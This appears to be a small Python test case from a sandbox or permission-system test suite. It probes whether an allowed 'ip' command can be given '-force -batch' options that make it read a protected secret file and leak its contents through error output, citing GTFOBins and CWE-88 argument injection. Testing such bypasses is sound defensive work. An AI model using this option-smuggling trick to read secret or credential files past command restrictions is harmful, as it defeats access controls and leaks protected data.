# title: give an allowed command an option that makes it read a file and quote it
# reference: https://gtfobins.github.io/gtfobins/ip/, CWE-88
# real: denied: no rule
# weakened: arguments of a grammar
# proof: canary
# needs: ip


def attack(worker):
    done = worker.call("proc.command", "ip", ["-force", "-batch", worker.secret])
    return done["stderr"] if isinstance(done, dict) else done
